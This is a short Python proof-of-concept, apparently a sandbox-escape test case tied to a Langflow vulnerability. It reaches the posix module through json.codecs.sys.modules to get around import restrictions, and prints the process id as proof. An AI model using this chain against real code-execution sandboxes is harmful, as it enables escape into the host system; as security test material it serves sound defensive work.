# technique: json.codecs.sys
# goal: import
# source: langflow, CVE-2026-10561
import json
print('ESCAPED pid=%d' % json.codecs.sys.modules['posix'].getpid())
